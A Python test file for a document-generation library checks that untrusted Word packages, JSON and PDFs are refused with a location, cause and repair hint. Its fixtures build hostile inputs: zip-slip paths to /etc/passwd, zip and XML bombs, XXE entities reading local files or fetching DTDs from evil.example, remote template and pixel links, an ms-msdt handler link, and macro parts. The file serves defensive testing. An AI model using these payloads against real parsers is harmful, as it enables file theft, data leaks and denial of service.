"""A Word file, PDF or JSON from a stranger is read within limits, or refused with its place, a cause and a repair."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contractgen import packages, packages_other
from contractgen.errors import InvalidData, Place, TemplateFault
from contractgen.packages import Package, read_package
from contractgen.packages_other import check_pdf, parse_json

Parts = dict[str, bytes]
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCUMENT = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>계약</w:t></w:r></w:p></w:body></w:document>'


def relationships(*rows: tuple[str, str, str]) -> bytes:
    """Return a part of relationships; a row is type, target and mode."""
    inner = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for number, (kind, target, mode) in enumerate(rows, 1)
    )
    return f'<Relationships xmlns="{RELATIONS}">{inner}</Relationships>'.encode()


def content_types(more: str = "", main: str = MAIN) -> bytes:
    return (
        f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
    ).encode()


def harmless() -> Parts:
    return {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", "")),
        "word/document.xml": DOCUMENT.encode(),
    }


def packed(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def with_part(name: str, content: bytes | str) -> Callable[[], bytes]:
    raw = content.encode() if isinstance(content, str) else content
    return lambda: packed({**harmless(), name: raw})


def with_relation(kind: str, target: str, mode: str = "External") -> Callable[[], bytes]:
    return with_part("word/_rels/document.xml.rels", relationships((kind, target, mode)))


def with_entry(name: str, content: bytes = b"x", **changes: int) -> Callable[[], bytes]:
    """Return an archive with an entry whose header says what a well-behaved program never writes."""

    def made() -> bytes:
        buffer = io.BytesIO(packed(harmless()))
        with zipfile.ZipFile(buffer, "a") as archive:
            entry = zipfile.ZipInfo(name)
            for key, value in changes.items():
                setattr(entry, key, value)
            archive.writestr(entry, content)
        return buffer.getvalue()

    return made


def with_raw_name(name: bytes) -> Callable[[], bytes]:
    """Return an archive with a name that Python's own writer would clean."""

    def made() -> bytes:
        stand_in = "x" * len(name)
        return packed({**harmless(), stand_in: b"<x/>"}).replace(stand_in.encode(), name)

    return made


def doubled(name: str, other: str) -> Callable[[], bytes]:
    def made() -> bytes:
        stand_in = "y" * len(other)
        parts = {**harmless(), name: b"<x/>", stand_in: b"<x/>"}
        return packed(parts).replace(stand_in.encode(), other.encode())

    return made


def flagged(bit: int) -> Callable[[], bytes]:
    """Return an archive whose entries all claim to be locked."""

    def made() -> bytes:
        raw = bytearray(packed(harmless()))
        for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = raw.find(mark)
            while at >= 0:
                raw[at + offset] |= bit
                at = raw.find(mark, at + 4)
        return bytes(raw)

    return made


def understated() -> bytes:
    """Return an archive with a part that says it is small and is not."""
    raw = bytearray(packed({**harmless(), "word/media/a.bin": b"\0" * 5_000_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        raw[raw.rfind(mark) + offset : raw.rfind(mark) + offset + 4] = struct.pack("<I", 1000)
    return bytes(raw)


def laughs() -> str:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><x>&a9;</x>'


STYLES = "word/styles.xml"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "an empty file": (lambda: b"", "no packed Office file"),
    "a text": (lambda: b"contract", "no packed Office file"),
    "a PDF": (lambda: b"%PDF-1.7", "is a PDF"),
    "an old .doc, or a locked file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old Office file"),
    "Rich Text": (lambda: b"{\\rtf1 x}", "Rich Text"),
    "a program before the archive": (lambda: b"MZ" + packed(harmless()), "no packed Office file"),
    "half an archive": (lambda: packed(harmless())[:300], "damaged"),
    "an archive that is no document": (lambda: packed({"a.txt": b"x"}), "no Office file"),
    "too many parts": (lambda: packed({**harmless(), **{f"word/p{n}.bin": b"" for n in range(2100)}}), "parts"),
    "a bomb": (with_part("word/media/a.bin", b"\0" * 30_000_000), "times its size"),
    "a bomb of XML": (with_part(STYLES, b"<x>" + b" " * 40_000_000 + b"</x>"), "times its size"),
    "a part above the limit": (with_part("word/media/a.bin", b"\0" * 60_000_000), "MiB are allowed"),
    "a part that lies about its size": (understated, "is damaged"),
    "zip-slip upwards": (with_entry("../../etc/cron.d/x"), "leads out"),
    "zip-slip in the middle": (with_entry("word/../../x"), "leads out"),
    "zip-slip from the root": (with_entry("/etc/passwd"), "from the root"),
    "zip-slip with a drive": (with_entry("C:/Windows/x"), "from the root"),
    "zip-slip with backslashes": (with_raw_name(b"..\\..\\evil.xml"), "leads out"),
    "a network path": (with_raw_name(b"\\\\host\\share\\x"), "from the root"),
    "a NUL in a name": (with_raw_name(b"word/a.xml\0.png"), "NUL"),
    "a line end in a name": (with_entry("word/a\nb.xml"), "none that a part"),
    "a direction control in a name": (with_entry("word/\u202egnp.exe"), "none that a part"),
    "a name without end": (with_entry("word/" + "a" * 4000), "none that a part"),
    "an empty step in a name": (with_entry("word//a.xml"), "none that a part"),
    "a part twice": (doubled("word/a.xml", "word/a.xml"), "twice"),
    "a part twice but for capitals": (doubled("word/styles.xml", "WORD/Styles.xml"), "twice"),
    "a symbolic link": (with_entry("word/media/l", b"/etc/passwd", external_attr=0o120777 << 16), "link to another"),
    "a folder with contents": (with_entry("word/media/", b"payload"), "folder"),
    "a locked entry": (flagged(0x1), "password"),
    "another method of packing": (lambda: packed(harmless(), zipfile.ZIP_LZMA), "method 14"),
    "a macro": (with_part("word/vbaProject.bin", b"\xd0\xcf"), "macro"),
    "data of a macro": (with_part("word/vbaData.xml", b"<x/>"), "macro"),
    "an ActiveX control": (with_part("word/activeX/activeX1.bin", b"x"), "control"),
    "an OLE object": (with_part("word/embeddings/oleObject1.bin", b"x"), "embedded object"),
    "an embedded program": (with_part("word/media/setup.exe", b"MZ"), "program"),
    "a type with macros": (
        lambda: packed({
            **harmless(),
            "[Content_Types].xml": content_types(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        }),
        "may hold macros",
    ),
    "a macro under another name": (
        lambda: packed({
            **harmless(),
            "word/photo.bin": b"x",
            "word/_rels/document.xml.rels": relationships(("vbaProject", "photo.bin", "")),
        }),
        "a macro (word/photo.bin)",
    ),
    "an embedded web page": (
        lambda: packed({
            **harmless(),
            "word/chunk.htm": b"From: x",
            "word/_rels/document.xml.rels": relationships(("aFChunk", "chunk.htm", "")),
        }),
        "an embedded document that Word would merge in",
    ),
    "a remote template": (with_relation("attachedTemplate", "https://evil.example/t.dotm"), "template from outside"),
    "a template of a share": (with_relation("attachedTemplate", "file:///\\\\10.0.0.1\\s\\t.dotm"), "template"),
    "a template without a mode": (with_relation("attachedTemplate", "t.dotm", ""), "template"),
    "a remote picture": (with_relation("image", "http://evil.example/pixel.png"), "outside the file (image)"),
    "a picture of a share": (with_relation("image", "\\\\host\\share\\p.png"), "outside the file"),
    "a remote OLE object": (with_relation("oleObject", "mhtml:http://evil.example!x"), "embedded object"),
    "a remote subdocument": (with_relation("subDocument", "file:///c:/secret.docx"), "another document"),
    "a remote font": (with_relation("font", "https://evil.example/f.odttf"), "outside the file"),
    "a mode in other letters": (with_relation("image", "http://evil.example/p.png", "EXTERNAL "), "outside the file"),
    "a link to a file": (with_relation("hyperlink", "file:///etc/passwd"), "link to a file"),
    "a link to a share": (with_relation("hyperlink", "\\\\host\\share"), "link to a file"),
    "a link that runs a script": (with_relation("hyperlink", "javascript:alert(1)"), "link to a file"),
    "a link into a handler": (with_relation("hyperlink", "ms-msdt:/id PCWDiagnostic"), "link to a file"),
    "a part that is not there": (with_relation("image", "media/gone.png", ""), "not there"),
    "a picture above the package": (with_relation("image", "../../../etc/passwd", ""), "not there"),
    "a billion laughs": (with_part(STYLES, laughs()), "document type"),
    "a quadratic bomb": (
        with_part(STYLES, f'<!DOCTYPE x [<!ENTITY a "{"a" * 5000}">]><x>{"&a;" * 5000}</x>'),
        "document type",
    ),
    "an entity that reads a file": (
        with_part(STYLES, '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'),
        "document type",
    ),
    "an entity of parameters": (
        with_part(STYLES, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>'),
        "document type",
    ),
    "a DTD of the network": (with_part(STYLES, '<!DOCTYPE x SYSTEM "http://evil.example/x"><x/>'), "document type"),
    "a DTD in UTF-16": (with_part(STYLES, '<?xml version="1.0"?><!DOCTYPE x><x/>'.encode("utf-16")), "encoding"),
    "a DTD in UTF-16 without mark": (with_part(STYLES, "<!DOCTYPE x><x/>".encode("utf-16-le")), "encoding"),
    "a DTD in UTF-7": (with_part(STYLES, b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-<x/>"), "encoding"),
    "a DTD in EBCDIC": (with_part(STYLES, '<?xml version="1.0" encoding="cp037"?><x/>'.encode("cp037")), "encoding"),
    "a DTD in the relationships": (with_part("word/_rels/document.xml.rels", "<!DOCTYPE x><x/>"), "document type"),
    "a DTD in a picture": (with_part("word/media/image1.svg", f"\ufeff {laughs()}"), "document type"),
    "Latin-1": (with_part(STYLES, '<?xml version="1.0" encoding="ISO-8859-1"?><x>é</x>'.encode("latin-1")), "encoding"),
    "broken UTF-8": (with_part(STYLES, b"<x>\xc0\xaf</x>"), "faulty XML"),
    "half a surrogate": (with_part(STYLES, b"<x>\xed\xa0\x80</x>"), "faulty XML"),
    "a NUL in XML": (with_part(STYLES, b"<x>a\0b</x>"), "NUL"),
    "XML that does not end": (with_part(STYLES, "<x><y>"), "faulty XML"),
    "XML without depth limit": (with_part(STYLES, "<x>" * 100_000 + "</x>" * 100_000), "elements deep"),
    "an undeclared entity": (with_part(STYLES, "<x>&nbsp;</x>"), "faulty XML"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_package_is_refused_with_its_place_a_cause_and_a_repair(name: str) -> None:
    make, cause = HOSTILE[name]
    with pytest.raises(InvalidData) as caught:
        read_package(make(), "house.docx")
    for problem in caught.value.problems:
        assert problem.place.file.startswith("house.docx")
        assert problem.repair
        assert str(problem).isprintable() or "\n    repair" in str(problem)
    assert cause in str(caught.value)


def test_a_harmless_package_is_read_part_by_part(tmp_path: Path) -> None:
    path = tmp_path / "house.docx"
    path.write_bytes(packed(harmless()))
    package = read_package(path)
    assert isinstance(package, Package)
    assert list(package.parts) == list(harmless())
    assert package.main() == "word/document.xml"
    assert "".join(package.xml("word/document.xml").itertext()) == "계약"
    assert package.relations("word/document.xml") == ()
    with pytest.raises(InvalidData, match=r"house\.docx!word/styles\.xml: this part of the file is missing"):
        package.part("word/styles.xml")


def test_links_to_the_web_and_to_mail_are_no_danger() -> None:
    rows = [("hyperlink", target, "External") for target in ("https://hanbit.example/", "mailto:legal@hanbit.example")]
    package = read_package(packed({**harmless(), "word/_rels/document.xml.rels": relationships(*rows)}))
    assert [relation.external for relation in package.relations("word/document.xml")] == [True, True]


def test_folders_in_the_archive_are_no_parts() -> None:
    assert "word/media/" not in read_package(with_entry("word/media/", b"")()).parts


def test_a_package_that_does_not_say_what_its_document_is_is_refused() -> None:
    package = read_package(packed({**harmless(), "_rels/.rels": relationships()}), "x.docx", TemplateFault)
    with pytest.raises(TemplateFault, match="which of its parts is the document"):
        package.main()


def test_all_faults_of_a_package_are_told_at_once() -> None:
    parts = {**harmless(), "word/vbaProject.bin": b"x", "word/embeddings/oleObject1.bin": b"x"}
    parts["word/_rels/document.xml.rels"] = relationships(("image", "http://evil.example/", "External"))
    with pytest.raises(InvalidData) as caught:
        read_package(packed(parts), "x.docx")
    assert len(caught.value.problems) == 3


def test_a_package_above_the_limit_is_not_read_to_its_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "MAX_PACKED", 100)
    path = tmp_path / "large.docx"
    path.write_bytes(packed(harmless()))
    with pytest.raises(InvalidData, match="is larger than"):
        read_package(path)
    with pytest.raises(InvalidData, match="does not exist"):
        read_package(tmp_path / "none.docx")


def test_the_sum_of_all_parts_is_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "MAX_UNPACKED", 1000)
    with pytest.raises(InvalidData, match="says that it unpacks to"):
        read_package(with_part("word/a.bin", bytes(range(256)) * 4)())


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_damaged_package_is_read_or_refused_and_never_ends_otherwise(data: st.DataObject) -> None:
    raw = bytearray(packed(harmless()))
    for _ in range(data.draw(st.integers(1, 6))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    with suppress(InvalidData):
        assert read_package(bytes(raw), "x.docx").parts


# ---------------------------------------------------------------------------------------------------------- JSON

BAD_JSON = {
    "[" * 100_000: "levels deep",
    '{"a":' * 60 + "1" + "}" * 60: "levels deep",
    '{"a": 1, "a": 2}': "given twice",
    '{"fee": NaN}': "NaN",
    '{"fee": -Infinity}': "-Infinity",
    '{"fee": ' + "9" * 5000 + "}": "5,000 digits",
    '{"name": "\\ud800"}': "lone surrogate",
    '{"name": }': "not valid JSON",
    "": "not valid JSON",
    '{"a": "\0"}': "NUL",
    '"' + "a" * 5_000_000 + '"': "larger than",
}


@pytest.mark.parametrize("text", BAD_JSON, ids=lambda text: text[:12])
def test_hostile_json_is_refused_with_its_place(text: str) -> None:
    with pytest.raises(InvalidData, match=BAD_JSON[text]) as caught:
        parse_json(text.encode(), Place("manifest.json"))
    assert caught.value.problems[0].place.file == "manifest.json"


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(st.characters(exclude_categories=["Cs"])),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(st.characters(exclude_categories=["Cs"])), inner),
        max_leaves=10,
    )
)
def test_json_that_is_harmless_comes_through_whole(data: object) -> None:
    assert parse_json(json.dumps(data, ensure_ascii=False), Place("x")) == data


def test_brackets_in_texts_are_no_depth() -> None:
    assert parse_json(json.dumps(["[" * 500, '\\"[']), Place("x")) == ["[" * 500, '\\"[']


# ----------------------------------------------------------------------------------------------------------- PDF


def pdf_with(stream: bytes, dictionary: str) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<<" + dictionary.encode() + b">>\nstream\n" + stream + b"\nendstream\nendobj\n%%EOF\n"


def test_a_pdf_of_ours_is_harmless() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert check_pdf(buffer.getvalue(), Place("x.pdf")) == buffer.getvalue()


def test_a_hostile_pdf_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = zlib.compress(b"\0" * 60_000_000)
    cases = {
        b"PK\x03\x04": "is not a PDF",
        pdf_with(bomb, "/Type/ObjStm/Filter/FlateDecode"): "unpacks to more than",
        pdf_with(zlib.compress(bomb), "/Filter [/FlateDecode /FlateDecode]"): "twice over",
        b"%PDF-1.7\ntrailer <</Encrypt 5 0 R>>": "locked",
    }
    for raw, cause in cases.items():
        with pytest.raises(InvalidData, match=cause):
            check_pdf(raw, Place("x.pdf"))
    monkeypatch.setattr(packages_other, "MAX_PDF", 10)
    with pytest.raises(InvalidData, match="is larger than"):
        check_pdf(b"%PDF-1.7 and more", Place("x.pdf"))
